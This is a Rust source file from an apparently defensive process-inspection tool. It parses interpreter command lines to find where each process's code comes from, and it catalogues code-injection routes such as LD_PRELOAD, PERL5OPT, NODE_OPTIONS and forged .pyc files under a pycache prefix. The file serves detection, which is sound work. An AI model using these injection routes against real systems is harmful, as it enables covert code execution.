//! Interpreter argv -> the script it runs. Pure and portable: no file is opened here.
//!
//! Each interpreter's real option grammar is followed far enough to find where its
//! code comes from: a file, the command line, standard input, a module, or nowhere
//! (a REPL). Options after the script belong to the script, not the interpreter.
//!
//! Choices worth knowing:
//! - argv alone cannot tell a REPL from a pipe. `python3`, `node`, `tclsh`, `swift` and
//!   shells with no script are reported `interactive` (the common case for a live
//!   process); perl, ruby, php and osascript read their program from stdin when given no
//!   script, so they are reported `stdin`.
//! - An interpreter whose argv is empty (unreadable, or caught mid-exec) or was
//!   rewritten into a title (`setproctitle("worker")`, node `process.title`: a lone
//!   argv[0] naming no interpreter, NUL padding aside) is reported `stdin`: the code
//!   cannot be seen, so it must not pass as the trusted interpreter binary.
//! - A required option value that is missing (`python3 -c`, `bash -c`) makes the
//!   interpreter exit with a usage error; it is reported as empty inline code, which is
//!   never trusted.
//! - Relative script paths are resolved lexically against the process's cwd (ruby:
//!   against cwd plus every `-C dir`). With an empty cwd a relative path is kept
//!   relative; a `script_path` not starting with `/` was not resolved.
//! - Interpreters that search `PATH` for the script (`perl -S`, `ruby -S`, bash when the
//!   file is not in cwd) cannot be followed without the environment: the name is resolved
//!   against cwd like any other.

use super::JudgeError;
pub use crate::model::{OpenFile, PathKind, StdinSource};
use crate::util::base64;
use crate::util::hex::sha256_hex;

/// How the interpreter gets its code.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum ScriptKind {
    /// A script file (`python3 x.py`, `#!` scripts, `bash x.sh`).
    File,
    /// Code on the command line (`python3 -c`, `perl -e`, `bash -c`, `osascript -e`).
    Inline,
    /// Code read from standard input (`python3 -`, `bash -s`, `sh < x`).
    Stdin,
    /// A module run by name (`python3 -m http.server`).
    Module,
    /// A REPL or interactive shell: no script.
    #[default]
    Interactive,
}

impl ScriptKind {
    pub fn as_str(self) -> &'static str {
        match self {
            ScriptKind::File => "file",
            ScriptKind::Inline => "inline",
            ScriptKind::Stdin => "stdin",
            ScriptKind::Module => "module",
            ScriptKind::Interactive => "interactive",
        }
    }
}

/// What an interpreter process runs.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ScriptInvocation {
    /// Canonical interpreter name: python, perl, ruby, sh, bash, dash, zsh, ksh, node,
    /// php, tclsh, osascript, pwsh, swift.
    pub interpreter: &'static str,
    pub kind: ScriptKind,
    /// Path of the script (kind File), lexically normalized; relative paths are
    /// resolved against the process's cwd. Relative only when the cwd was unknown.
    /// Empty otherwise.
    pub script_path: String,
    /// The script path exactly as argv gives it (kind File): relative paths are not
    /// resolved, ruby `-C` directories are joined with `/`, nothing is normalised.
    /// This is what the backend resolves, in the process's own root and cwd;
    /// `script_path` is for display.
    pub script_operand: String,
    /// SHA-256 (hex) of the inline code text (kind Inline); empty otherwise.
    pub inline_sha256: String,
    /// Module name (kind Module, or kind File when the module was found as a file in
    /// the cwd); empty otherwise.
    pub module: String,
    /// Python `-m`: whether the cwd is first on `sys.path` (false under `-I` / `-P`),
    /// i.e. whether a module in the cwd shadows every other.
    pub module_from_cwd: bool,
    /// Where standard input comes from (kind Stdin, and the REPL check): filled by
    /// `subject::evaluate` from the host, `Unknown` until then.
    pub stdin: StdinSource,
    /// Code the command line asks the interpreter to load besides its program
    /// (`perl -MX`, `ruby -r x`, `node --import x`, `-I dir`…).
    pub loads: Vec<CodeLoad>,
    /// Python switches that change what is loaded (`-E`, `-s`, `-I`, `-P`, `-i`).
    pub python: PythonFlags,
}

/// Code an interpreter or the dynamic loader is asked to load besides the program.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CodeLoad {
    /// The option or variable that asks for it (`perl -M`, `PERL5LIB`, `LD_PRELOAD`).
    pub via: String,
    pub target: LoadTarget,
}

/// What a load names.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum LoadTarget {
    /// A file, as written (relative to the process cwd when not absolute).
    File(String),
    /// A directory searched for code, as written (empty: the cwd).
    Dir(String),
    /// A module or library name the interpreter searches for.
    Module(String),
    /// Code with no file to judge (an exported shell function, a prompt that runs
    /// command substitutions, a debugger hook): what it does, never trusted.
    Code(String),
    /// A file under the home directory the process sees (`$HOME`, else its passwd
    /// entry), read at start when it exists: a login shell's profile.
    HomeFile(String),
    /// A settings file that can name code to load (an OpenSSL config's engines and
    /// providers, a node `--env-file` setting `NODE_OPTIONS`), read when it exists:
    /// only root's (`/etc`, package locations) passes.
    Config(String),
}

fn load(via: &str, target: LoadTarget) -> CodeLoad {
    CodeLoad {
        via: via.to_owned(),
        target,
    }
}

/// A file if the value looks like a path, else a module name.
fn file_or_module(via: &str, value: &str) -> CodeLoad {
    let path_like = value.contains('/') || value.starts_with('.');
    load(
        via,
        if path_like {
            LoadTarget::File(value.to_owned())
        } else {
            LoadTarget::Module(value.to_owned())
        },
    )
}

/// Python switches that decide which code loads.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct PythonFlags {
    /// `-E` or `-I`: `PYTHON*` variables are ignored.
    pub ignore_environment: bool,
    /// `-s` or `-I`: no user site-packages.
    pub no_user_site: bool,
    /// `-P` or `-I`: the cwd / script directory is not put on `sys.path`.
    pub safe_path: bool,
    /// `-i`: after the program, python reads more code from stdin.
    pub inspect: bool,
}

/// What the parsers collect besides the program's source.
#[derive(Default)]
struct Extras {
    loads: Vec<CodeLoad>,
    python: PythonFlags,
}

/// Executables that are many programs at once and pick one from `argv[0]`.
const MULTICALL_LAUNCHERS: &[&str] = &["busybox", "toybox"];

/// The canonical interpreter name for an executable, if it is one we know.
///
/// The name comes from the executable's basename; `argv[0]` is consulted only when the
/// executable is a multi-call launcher (busybox), because any process can write
/// anything into its own `argv[0]`.
pub fn interpreter_of(exe_path: &str, argv: &[String]) -> Option<&'static str> {
    resolve_interpreter(exe_path, argv).map(|(name, _)| name)
}

/// The interpreter and the index in argv of its first argument.
fn resolve_interpreter(exe_path: &str, argv: &[String]) -> Option<(&'static str, usize)> {
    let exe_base = basename(exe_path);
    if !MULTICALL_LAUNCHERS.contains(&exe_base) {
        return canonical_interpreter(exe_base).map(|name| (name, 1));
    }
    let argv0 = basename(argv.first()?);
    let argv0 = argv0.strip_prefix('-').unwrap_or(argv0);
    if MULTICALL_LAUNCHERS.contains(&argv0) {
        // `busybox sh script.sh`: the applet is argv[1].
        let applet = basename(argv.get(1)?);
        return canonical_interpreter(applet).map(|name| (name, 2));
    }
    canonical_interpreter(argv0).map(|name| (name, 1))
}

fn basename(path: &str) -> &str {
    let trimmed = path.trim_end_matches('/');
    trimmed.rsplit('/').next().unwrap_or(trimmed)
}

/// Maps an executable name (`python3.11`, `perl5.36.0`, `php8.2-cli`, `ksh93`…) to its
/// family. Versions are recognized by shape (digits, dots, ABI letters, a few known
/// build tags), not listed.
fn canonical_interpreter(base: &str) -> Option<&'static str> {
    let lower = base.to_ascii_lowercase();
    let name = lower.strip_suffix(".exe").unwrap_or(&lower);
    let stem_len = name
        .find(|c: char| !c.is_ascii_lowercase())
        .unwrap_or(name.len());
    let (stem, suffix) = name.split_at(stem_len);
    let family = match stem {
        "python" | "pythonw" | "pypy" => "python",
        "perl" => "perl",
        "ruby" => "ruby",
        "node" | "nodejs" => "node",
        "php" => "php",
        "tclsh" | "wish" => "tclsh",
        "sh" | "ash" | "hush" => "sh",
        "bash" => "bash",
        "dash" => "dash",
        "zsh" => "zsh",
        "ksh" | "mksh" | "pdksh" | "oksh" | "lksh" => "ksh",
        "osascript" => "osascript",
        "pwsh" | "powershell" => "pwsh",
        "swift" => "swift",
        _ => return None,
    };
    version_suffix_ok(family, suffix).then_some(family)
}

/// `""`, `3`, `3.11`, `3.6m`, `3.13t`, `-5.9`, `8.2-cli`, `3.11-dbg`, `-frontend` (swift).
fn version_suffix_ok(family: &str, suffix: &str) -> bool {
    let tags: &[&str] = match family {
        "php" => &["-cli", "-cgi"],
        "python" => &["-dbg", "-debug"],
        "swift" => &["-frontend"],
        _ => &[],
    };
    let mut rest = suffix;
    for tag in tags {
        if let Some(stripped) = rest.strip_suffix(tag) {
            rest = stripped;
            break;
        }
    }
    let rest = rest.strip_prefix(['-', '_']).unwrap_or(rest);
    let digits_end = rest
        .find(|c: char| !(c.is_ascii_digit() || c == '.'))
        .unwrap_or(rest.len());
    let (version, abi) = rest.split_at(digits_end);
    if version.is_empty() {
        return abi.is_empty();
    }
    version.starts_with(|c: char| c.is_ascii_digit())
        && abi.len() <= 3
        && abi
            .chars()
            .all(|c| matches!(c, 'd' | 'm' | 't' | 'u' | 'w'))
}

/// What an interpreter process runs; `None` when the executable is no interpreter
/// (or, for `swift`, when it runs a package-manager subcommand rather than code).
pub fn analyze(exe_path: &str, argv: &[String], cwd: &str) -> Option<ScriptInvocation> {
    let (interpreter, first_arg) = resolve_interpreter(exe_path, argv)?;
    let args = argv.get(first_arg..).unwrap_or(&[]);
    let mut extras = Extras::default();
    let source = if argv.is_empty() || argv_rewritten(argv, first_arg) {
        Source::Stdin
    } else {
        match interpreter {
            "python" => python(args, &mut extras),
            "perl" => perl(args, &mut extras),
            "ruby" => ruby(args, &mut extras),
            "node" => node(args, &mut extras),
            "php" => php(args),
            "tclsh" => tcl(args),
            "sh" | "bash" | "dash" | "zsh" | "ksh" => {
                let argv0 = argv.get(first_arg - 1).map_or("", String::as_str);
                shell(interpreter, argv0, args, &mut extras)
            }
            "osascript" => osascript(args),
            "pwsh" => pwsh(args),
            "swift" => swift(exe_path, args)?,
            _ => return None,
        }
    };
    let mut invocation = source.into_invocation(interpreter, cwd);
    invocation.loads = extras.loads;
    invocation.python = extras.python;
    Some(invocation)
}

/// True when the process has overwritten its argv with a title (`setproctitle`,
/// node's `process.title`, perl's `$0`): a lone argv[0] (NUL padding aside) that names
/// no interpreter. The real command line, and so the code's source, is gone.
fn argv_rewritten(argv: &[String], first_arg: usize) -> bool {
    if first_arg != 1 || argv.iter().skip(1).any(|a| !a.is_empty()) {
        return false;
    }
    let argv0 = argv.first().map(String::as_str).unwrap_or("");
    let name = basename(argv0.trim_start_matches('-'));
    canonical_interpreter(name).is_none()
}

/// Where the code comes from, before paths are resolved and code is hashed.
#[derive(Debug, PartialEq, Eq)]
enum Source {
    /// A script path as written, plus directories it is relative to (ruby `-C`).
    File {
        path: String,
        chdirs: Vec<String>,
    },
    Inline(String),
    Stdin,
    Module {
        name: String,
        from_cwd: bool,
    },
    Interactive,
}

fn file(path: &str) -> Source {
    Source::File {
        path: path.to_owned(),
        chdirs: Vec::new(),
    }
}

impl Source {
    fn into_invocation(self, interpreter: &'static str, cwd: &str) -> ScriptInvocation {
        let mut inv = ScriptInvocation {
            interpreter,
            ..ScriptInvocation::default()
        };
        match self {
            Source::File { path, chdirs } => {
                inv.kind = ScriptKind::File;
                inv.script_path = resolve_path(cwd, &chdirs, &path);
                inv.script_operand = join_unresolved(&chdirs, &path);
            }
            Source::Inline(code) => {
                inv.kind = ScriptKind::Inline;
                inv.inline_sha256 = sha256_hex(code.as_bytes());
            }
            Source::Stdin => inv.kind = ScriptKind::Stdin,
            Source::Module { name, from_cwd } => {
                inv.kind = ScriptKind::Module;
                inv.module = name;
                inv.module_from_cwd = from_cwd;
            }
            Source::Interactive => inv.kind = ScriptKind::Interactive,
        }
        inv
    }
}

/// `path` resolved against `cwd` and then each of `chdirs` in turn, lexically. An
/// empty path stays empty (there is no file to name).
fn resolve_path(cwd: &str, chdirs: &[String], path: &str) -> String {
    if path.is_empty() {
        return String::new();
    }
    let mut dir = cwd.to_owned();
    for d in chdirs {
        dir = join_normalized(&dir, d);
    }
    join_normalized(&dir, path)
}

/// `path` after each of `chdirs` in turn, joined with `/` and nothing removed (the
/// kernel resolves `..` against real directories, which a lexical rule cannot).
fn join_unresolved(chdirs: &[String], path: &str) -> String {
    if path.is_empty() {
        return String::new();
    }
    let mut joined = String::new();
    for part in chdirs.iter().map(String::as_str).chain([path]) {
        if part.starts_with('/') || joined.is_empty() {
            joined = part.to_owned();
        } else {
            joined = format!("{}/{part}", joined.trim_end_matches('/'));
        }
    }
    joined
}

/// `base/path` (or `path` alone when absolute or `base` is empty) with `.`, `..` and
/// repeated slashes removed. Relative results keep their leading `..`.
fn join_normalized(base: &str, path: &str) -> String {
    let joined = if path.starts_with('/') || base.is_empty() {
        path.to_owned()
    } else {
        format!("{base}/{path}")
    };
    let absolute = joined.starts_with('/');
    let mut parts: Vec<&str> = Vec::new();
    for part in joined.split('/') {
        match part {
            "" | "." => {}
            ".." => match parts.last() {
                Some(&last) if last != ".." => {
                    parts.pop();
                }
                _ if absolute => {}
                _ => parts.push(".."),
            },
            other => parts.push(other),
        }
    }
    let body = parts.join("/");
    match (absolute, body.is_empty()) {
        (true, _) => format!("/{body}"),
        (false, true) => ".".to_owned(),
        (false, false) => body,
    }
}

/// The value of an option that takes one: the rest of the cluster when non-empty, else
/// the next argument (advancing `i`). `None` when missing.
fn option_value(rest: &str, args: &[String], i: &mut usize) -> Option<String> {
    if !rest.is_empty() {
        return Some(rest.to_owned());
    }
    *i += 1;
    args.get(*i).cloned()
}

/// The text after the option letter at byte offset `pos` in `cluster`.
fn after(cluster: &str, pos: usize, c: char) -> &str {
    cluster.get(pos + c.len_utf8()..).unwrap_or("")
}

/// CPython: `python [-bBdEhiIOPqsSuvVWx?] [-c cmd | -m mod | file | -] [args]`.
fn python(args: &[String], extras: &mut Extras) -> Source {
    let mut safe_path = false;
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "-" {
            return Source::Stdin;
        }
        if arg == "--" {
            return match args.get(i + 1).map(String::as_str) {
                Some("-") => Source::Stdin,
                Some(path) => file(path),
                None => Source::Interactive,
            };
        }
        if let Some(long) = arg.strip_prefix("--") {
            match long {
                "check-hash-based-pycs" => i += 1,
                "help" | "help-env" | "help-xoptions" | "help-all" | "version" => {
                    return Source::Interactive
                }
                _ => {}
            }
            i += 1;
            continue;
        }
        let Some(cluster) = arg.strip_prefix('-') else {
            return file(arg);
        };
        for (pos, c) in cluster.char_indices() {
            match c {
                // Options taking a value end the cluster; -c and -m end the options.
                'c' | 'm' | 'W' | 'X' | 'Q' => {
                    let value = option_value(after(cluster, pos, c), args, &mut i);
                    match c {
                        'c' => return Source::Inline(value.unwrap_or_default()),
                        'm' => {
                            return Source::Module {
                                name: value.unwrap_or_default(),
                                from_cwd: !safe_path,
                            }
                        }
                        // Every module's bytecode is then read from that tree: a forged
                        // .pyc with the source's mtime and size runs instead of it.
                        'X' => {
                            if let Some(dir) = value
                                .as_deref()
                                .and_then(|v| v.strip_prefix("pycache_prefix="))
                            {
                                extras.loads.push(load(
                                    "python -X pycache_prefix",
                                    LoadTarget::Dir(dir.into()),
                                ));
                            }
                            break;
                        }
                        _ => break,
                    }
                }
                'I' => {
                    safe_path = true;
                    extras.python.safe_path = true;
                    extras.python.ignore_environment = true;
                    extras.python.no_user_site = true;
                }
                'P' => {
                    safe_path = true;
                    extras.python.safe_path = true;
                }
                'E' => extras.python.ignore_environment = true,
                's' => extras.python.no_user_site = true,
                'i' => extras.python.inspect = true,
                'h' | '?' | 'V' if cluster.len() == 1 => return Source::Interactive,
                _ => {}
            }
        }
        i += 1;
    }
    Source::Interactive
}

/// Perl (perlrun): switches until a non-switch, `-` or `--`; `-e`/`-E` build the
/// program line by line; with no `-e` the first argument is the program file, and with
/// none the program comes from stdin.
fn perl(args: &[String], extras: &mut Extras) -> Source {
    let mut lines: Vec<String> = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "--" {
            i += 1;
            break;
        }
        let cluster = match arg.strip_prefix('-') {
            Some(c) if !c.is_empty() => c,
            _ => break,
        };
        let mut chars = cluster.char_indices().peekable();
        while let Some((pos, c)) = chars.next() {
            match c {
                'e' | 'E' => {
                    lines.push(
                        option_value(after(cluster, pos, c), args, &mut i).unwrap_or_default(),
                    );
                    break;
                }
                'I' => {
                    if let Some(dir) = option_value(after(cluster, pos, c), args, &mut i) {
                        extras.loads.push(load("perl -I", LoadTarget::Dir(dir)));
                    }
                    break;
                }
                'M' | 'm' => {
                    if let Some(module) = perl_module_name(after(cluster, pos, c)) {
                        let via = if c == 'M' { "perl -M" } else { "perl -m" };
                        extras.loads.push(load(via, LoadTarget::Module(module)));
                    }
                    break;
                }
                // `-d:Mod` runs the debugger module Devel::Mod; plain `-d` (`-dt`) runs
                // perl5db.pl, which evals PERL5DB and reads ~/.perldb and ./.perldb.
                'd' => {
                    if let Some(name) = after(cluster, pos, c).strip_prefix(':') {
                        if let Some(module) = perl_module_name(name) {
                            extras.loads.push(load(
                                "perl -d:",
                                LoadTarget::Module(format!("Devel::{module}")),
                            ));
                        }
                    } else {
                        extras.loads.push(load(
                            "perl -d",
                            LoadTarget::Code(
                                "the debugger runs PERL5DB and the user's .perldb files".into(),
                            ),
                        ));
                    }
                    break;
                }
                // These consume the rest of the cluster (-xdir, -i.bak, -F:, -V:name,
                // -Dflags).
                'x' | 'D' | 'i' | 'F' | 'V' => break,
                'l' => while chars.next_if(|&(_, d)| ('0'..='7').contains(&d)).is_some() {},
                '0' => {
                    if chars.next_if(|&(_, d)| d == 'x' || d == 'X').is_some() {
                        // Measured (perl 5.36): `-0x…` swallows the rest of the cluster.
                        break;
                    } else {
                        while chars.next_if(|&(_, d)| ('0'..='7').contains(&d)).is_some() {}
                    }
                }
                'C' => {
                    while chars
                        .next_if(|&(_, d)| d.is_ascii_digit() || "IOEiSoDALa".contains(d))
                        .is_some()
                    {}
                }
                _ => {}
            }
        }
        i += 1;
    }
    if !lines.is_empty() {
        return Source::Inline(lines.join("\n"));
    }
    match args.get(i).map(String::as_str) {
        Some("-") | None => Source::Stdin,
        Some(path) => file(path),
    }
}

/// Ruby: like perl, plus `-C dir`/`-X dir` (chdir before the script is opened),
/// `-r lib`, `-I dir`, `-E enc` and long options.
fn ruby(args: &[String], extras: &mut Extras) -> Source {
    let mut lines: Vec<String> = Vec::new();
    let mut chdirs: Vec<String> = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "--" {
            i += 1;
            break;
        }
        if let Some(long) = arg.strip_prefix("--") {
            let takes_value = matches!(
                long,
                "enable"
                    | "disable"
                    | "encoding"
                    | "external-encoding"
                    | "internal-encoding"
                    | "dump"
                    | "backtrace-limit"
                    | "crash-report"
                    | "parser"
            );
            if takes_value {
                i += 1;
            }
            if matches!(long, "version" | "help" | "copyright") {
                return Source::Interactive;
            }
            i += 1;
            continue;
        }
        let cluster = match arg.strip_prefix('-') {
            Some(c) if !c.is_empty() => c,
            _ => break,
        };
        let mut chars = cluster.char_indices().peekable();
        while let Some((pos, c)) = chars.next() {
            match c {
                'e' => {
                    lines.push(
                        option_value(after(cluster, pos, c), args, &mut i).unwrap_or_default(),
                    );
                    break;
                }
                'C' | 'X' => {
                    if let Some(dir) = option_value(after(cluster, pos, c), args, &mut i) {
                        chdirs.push(dir);
                    }
                    break;
                }
                'r' | 'I' | 'E' => {
                    let value = option_value(after(cluster, pos, c), args, &mut i);
                    match (c, value) {
                        ('r', Some(lib)) => extras.loads.push(file_or_module("ruby -r", &lib)),
                        ('I', Some(dir)) => {
                            extras.loads.push(load("ruby -I", LoadTarget::Dir(dir)));
                        }
                        _ => {}
                    }
                    break;
                }
                'x' | 'F' => break,
                'K' => {
                    let _ = chars.next();
                }
                'W' => {
                    if chars.next_if(|&(_, d)| d == ':').is_some() {
                        break;
                    }
                    while chars.next_if(|&(_, d)| d.is_ascii_digit()).is_some() {}
                }
                '0' | 'T' => while chars.next_if(|&(_, d)| d.is_ascii_digit()).is_some() {},
                _ => {}
            }
        }
        i += 1;
    }
    if !lines.is_empty() {
        return Source::Inline(lines.join("\n"));
    }
    match args.get(i).map(String::as_str) {
        Some("-") | None => Source::Stdin,
        Some(path) => Source::File {
            path: path.to_owned(),
            chdirs,
        },
    }
}

/// Node options that take a value (as `--opt value` or `--opt=value`).
const NODE_VALUE_OPTIONS: &[&str] = &[
    "-r",
    "--require",
    "--import",
    "--loader",
    "--experimental-loader",
    "-C",
    "--conditions",
    "--input-type",
    "--title",
    "--env-file",
    "--env-file-if-exists",
    "--redirect-warnings",
    "--diagnostic-dir",
    "--report-dir",
    "--report-directory",
    "--report-filename",
    "--report-signal",
    "--icu-data-dir",
    "--openssl-config",
    "--tls-cipher-list",
    "--tls-keylog",
    "--unhandled-rejections",
    "--dns-result-order",
    "--heapsnapshot-signal",
    "--heap-prof-dir",
    "--heap-prof-name",
    "--cpu-prof-dir",
    "--cpu-prof-name",
    "--secure-heap",
    "--secure-heap-min",
    "--experimental-policy",
    "--policy-integrity",
    "--disable-proto",
    "--watch-path",
    "--test-reporter",
    "--test-reporter-destination",
    "--test-name-pattern",
    "--experimental-default-type",
    "--snapshot-blob",
    "--max-http-header-size",
    "--localstorage-file",
    "--experimental-sea-config",
    "--run",
];

/// Node: options until the first positional (the script); `-e`/`--eval` and
/// `-p`/`--print` take the code; `--` ends options.
fn node(args: &[String], extras: &mut Extras) -> Source {
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "-" {
            return Source::Stdin;
        }
        if arg == "--" {
            return match args.get(i + 1).map(String::as_str) {
                Some("-") => Source::Stdin,
                Some(path) => file(path),
                None => Source::Interactive,
            };
        }
        if !arg.starts_with('-') {
            // `node inspect script.js`: the built-in debugger runs the next argument.
            if arg == "inspect" {
                if let Some(path) = args.get(i + 1) {
                    return file(path);
                }
            }
            return file(arg);
        }
        let (name, inline_value) = match arg.split_once('=') {
            Some((n, v)) => (n, Some(v.to_owned())),
            None => (arg, None),
        };
        match name {
            "-e" | "--eval" | "-pe" => {
                let code = inline_value.or_else(|| {
                    i += 1;
                    args.get(i).cloned()
                });
                return Source::Inline(code.unwrap_or_default());
            }
            // `--print <arg>` is `-pe <arg>`; a bare `-p` followed by an option is a flag.
            "-p" | "--print" => {
                if let Some(code) = inline_value {
                    return Source::Inline(code);
                }
                if let Some(next) = args.get(i + 1).filter(|n| !n.starts_with('-')) {
                    return Source::Inline(next.clone());
                }
            }
            "-v" | "--version" | "-h" | "--help" | "--v8-options" => return Source::Interactive,
            // An env file can set NODE_OPTIONS (`--require …`); OpenSSL's config can
            // load engines and providers; a snapshot is the heap the program starts from.
            "--env-file" | "--env-file-if-exists" | "--openssl-config" | "--snapshot-blob" => {
                let value = inline_value.or_else(|| {
                    i += 1;
                    args.get(i).cloned()
                });
                if let Some(value) = value {
                    let target = if name == "--snapshot-blob" {
                        LoadTarget::File(value)
                    } else {
                        LoadTarget::Config(value)
                    };
                    extras.loads.push(load(&format!("node {name}"), target));
                }
            }
            "-r" | "--require" | "--import" | "--loader" | "--experimental-loader" => {
                let value = inline_value.or_else(|| {
                    i += 1;
                    args.get(i).cloned()
                });
                if let Some(value) = value {
                    extras.loads.push(node_load(name, &value));
                }
            }
            _ if inline_value.is_none() && NODE_VALUE_OPTIONS.contains(&name) => i += 1,
            _ => {}
        }
        i += 1;
    }
    Source::Interactive
}

/// PHP CLI: `php [opts] [-f] file [--] [args]`, `php [opts] -r code [--] [args]`,
/// `php [opts] -- [args]` (stdin), `php -a` (interactive).
fn php(args: &[String]) -> Source {
    let mut code: Option<String> = None;
    let mut script: Option<String> = None;
    let mut interactive = false;
    let mut i = 0;
    let mut operands_allowed = true;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "--" {
            operands_allowed = false;
            break;
        }
        if arg == "-" {
            operands_allowed = false;
            break;
        }
        if let Some(long) = arg.strip_prefix("--") {
            let (name, attached) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v)),
                None => (long, None),
            };
            let short = match name {
                "run" => 'r',
                "file" => 'f',
                "define" => 'd',
                "php-ini" => 'c',
                "zend-extension" => 'z',
                "process-begin" => 'B',
                "process-code" => 'R',
                "process-file" => 'F',
                "process-end" => 'E',
                "docroot" => 't',
                "server" => 'S',
                "rf" | "rc" | "re" | "rz" | "ri" => 'd',
                "interactive" => 'a',
                "info" | "modules" | "version" | "help" | "ini" => 'h',
                _ => ' ',
            };
            if php_takes_value(short) {
                let value = option_value(attached.unwrap_or(""), args, &mut i);
                php_apply(short, value, &mut code, &mut script);
            } else if short == 'a' {
                interactive = true;
            } else if short == 'h' {
                return Source::Interactive;
            }
            i += 1;
            continue;
        }
        let cluster = match arg.strip_prefix('-') {
            Some(c) if !c.is_empty() => c,
            _ => break,
        };
        for (pos, c) in cluster.char_indices() {
            if php_takes_value(c) {
                let rest = after(cluster, pos, c);
                let rest = rest.strip_prefix('=').unwrap_or(rest);
                let value = option_value(rest, args, &mut i);
                php_apply(c, value, &mut code, &mut script);
                break;
            }
            match c {
                'a' => interactive = true,
                'h' | 'v' | 'i' | 'm' => return Source::Interactive,
                _ => {}
            }
        }
        i += 1;
    }
    if let Some(code) = code {
        return Source::Inline(code);
    }
    if let Some(path) = script {
        return file(&path);
    }
    if operands_allowed {
        if let Some(path) = args.get(i) {
            return file(path);
        }
    }
    if interactive {
        Source::Interactive
    } else {
        Source::Stdin
    }
}

/// The module a perl `-M`/`-m` value names: `-MFoo::Bar=x,y`, `-M-strict`,
/// `-M'Foo qw(a)'`. `None` when it names none.
fn perl_module_name(value: &str) -> Option<String> {
    let value = value.trim_start_matches(['-', '\'', '"']);
    let end = value
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == ':' || c == '\''))
        .unwrap_or(value.len());
    let name = value.get(..end)?.trim_end_matches('\'');
    (!name.is_empty()).then(|| name.to_owned())
}

/// A node `--require`/`--import`/`--loader` value: a builtin (`node:fs`), a path
/// (relative, absolute or `file://`), or a package name resolved through
/// `node_modules`.
fn node_load(via: &str, value: &str) -> CodeLoad {
    let via = format!("node {via}");
    if let Some(path) = value.strip_prefix("file://") {
        return load(&via, LoadTarget::File(path.to_owned()));
    }
    let path_like = value.contains('/')
        || value.starts_with('.')
        || [".js", ".mjs", ".cjs", ".json", ".node"]
            .iter()
            .any(|ext| value.ends_with(ext));
    if path_like && !value.starts_with('@') {
        load(&via, LoadTarget::File(value.to_owned()))
    } else {
        load(&via, LoadTarget::Module(value.to_owned()))
    }
}

/// The code loads named by a variable that holds interpreter options
/// (`PERL5OPT`, `RUBYOPT`, `NODE_OPTIONS`), parsed with the interpreter's own
/// argv grammar. perl and ruby accept switches without their dash there.
fn option_variable_loads(
    key: &str,
    value: &str,
    dash_optional: bool,
    grammar: fn(&[String], &mut Extras) -> Source,
) -> Vec<CodeLoad> {
    let mut words: Vec<String> = split_words(value)
        .into_iter()
        .map(|w| {
            if dash_optional && !w.starts_with('-') {
                format!("-{w}")
            } else {
                w
            }
        })
        .collect();
    // A program operand ends the switches; nothing runs from it here.
    words.push("-e".into());
    words.push(String::new());
    let mut extras = Extras::default();
    let _ = grammar(&words, &mut extras);
    extras
        .loads
        .into_iter()
        .map(|l| CodeLoad {
            via: format!("{key} ({})", l.via),
            ..l
        })
        .collect()
}

/// Splits an option string the way a shell would for simple quoting (`NODE_OPTIONS`,
/// `RUBYOPT`, `PERL5OPT`): whitespace-separated words, `"…"` and `'…'` grouping.
fn split_words(text: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut quote: Option<char> = None;
    for c in text.chars() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => word.push(c),
            None if c == '"' || c == '\'' => {
                quote = Some(c);
                in_word = true;
            }
            None if c.is_whitespace() => {
                if in_word {
                    words.push(std::mem::take(&mut word));
                    in_word = false;
                }
            }
            None => {
                word.push(c);
                in_word = true;
            }
        }
    }
    if in_word {
        words.push(word);
    }
    words
}

/// Most distinct directories one search-path variable, or python's `sys.path`, may
/// list before an1256 stops judging them one by one: each costs file probes, and
/// the user can put 60,000 entries in one variable. Real paths hold a handful.
pub const SEARCH_PATH_CAP: usize = 64;

/// `:`-separated directories; an empty entry is the cwd (as the loaders read it).
fn dirs(via: &str, value: &str, out: &mut Vec<CodeLoad>) {
    dir_loads(via, value.split(':'), out);
}

/// One load per distinct directory in `entries` (a repeat searches nothing new);
/// beyond `SEARCH_PATH_CAP` of them, one load that says so instead, which no
/// policy trusts.
fn dir_loads<'a>(via: &str, entries: impl Iterator<Item = &'a str>, out: &mut Vec<CodeLoad>) {
    let mut seen = std::collections::HashSet::new();
    let distinct: Vec<&str> = entries.filter(|dir| seen.insert(*dir)).collect();
    if distinct.len() > SEARCH_PATH_CAP {
        out.push(load(
            via,
            LoadTarget::Code(format!(
                "{} distinct directories, more than {SEARCH_PATH_CAP}: not judged one by one",
                distinct.len()
            )),
        ));
        return;
    }
    for dir in distinct {
        out.push(load(via, LoadTarget::Dir(dir.to_owned())));
    }
}

/// Code the process's environment makes its interpreter, or the dynamic loader, load
/// (`interpreter` empty for a binary). Every occurrence of a variable counts: a
/// duplicated key is read differently by different loaders.
pub fn environment_loads(interpreter: &str, env: &[String], python: &PythonFlags) -> Vec<CodeLoad> {
    let mut out = Vec::new();
    let shell = matches!(interpreter, "sh" | "bash" | "dash" | "zsh" | "ksh");
    for entry in env {
        let Some((key, value)) = entry.split_once('=') else {
            continue;
        };
        if value.is_empty() {
            continue;
        }
        match key {
            "LD_PRELOAD" => {
                for lib in value.split([':', ' ']).filter(|l| !l.is_empty()) {
                    out.push(file_or_module(key, lib));
                }
            }
            "LD_AUDIT" | "DYLD_INSERT_LIBRARIES" => {
                for lib in value.split(':').filter(|l| !l.is_empty()) {
                    out.push(file_or_module(key, lib));
                }
            }
            "LD_LIBRARY_PATH" | "DYLD_LIBRARY_PATH" | "DYLD_FRAMEWORK_PATH" => {
                dirs(key, value, &mut out)
            }
            // libcrypto reads its config (which names engines and providers to load)
            // and loads engines/providers from these directories in any program that
            // uses it; glibc's iconv loads gconv modules from GCONV_PATH.
